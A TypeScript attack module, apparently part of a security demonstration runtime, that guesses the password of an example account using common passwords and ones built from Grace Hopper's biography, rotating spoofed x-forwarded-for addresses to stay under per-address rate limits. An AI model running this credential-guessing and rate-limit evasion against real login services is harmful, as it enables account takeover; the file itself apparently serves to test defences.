import type { Attack, AttackProgress } from '../../../runtime/attack/attack.ts';

const account = 'grace@example.org';

/** From a list of common passwords, and what one knows of Grace Hopper. */
const guesses = [
  ...['123456', 'password', 'qwerty', 'dragon', 'monkey', 'letmein', 'iloveyou', 'football'],
  ...['admin1906', 'cobol1959', 'hopper1', 'hopper12', 'hopper123', 'grace1906', 'gracehopper', 'navy1943'],
  ...['bug1947', 'moth1947', 'harvard1', 'univac1', 'hopper1959', 'hopper1943', 'hopper1906'],
];

/** Rented for an hour. None makes more than four tries. */
const addresses = ['203.0.113.1', '203.0.113.2', '203.0.113.3', '203.0.113.4', '203.0.113.5', '203.0.113.6'];

/** Guesses the password of one account from many addresses. */
const attack: Attack = async function* (send) {
  let requests = 0;
  let stolen = '';
  const progress = (step: string): AttackProgress => ({ requests, stolen, length: 0, step });

  for (const password of guesses) {
    const address = addresses[requests % addresses.length] ?? '';
    const response = await send({
      method: 'POST',
      path: '/api/login',
      headers: { 'content-type': 'application/json', 'x-forwarded-for': address },
      body: JSON.stringify({ email: account, password }),
    });
    requests += 1;
    if (response.status === 200 && response.body.includes('"token"')) {
      stolen = password;
      return { ...progress(`It is in Grace's account, with "${password}"`), outcome: 'succeeded' };
    }
    yield progress(`Guess ${requests} of ${guesses.length}, from ${address}`);
  }
  return { ...progress('No guess opened the account'), outcome: 'repelled' };
};

export default attack;
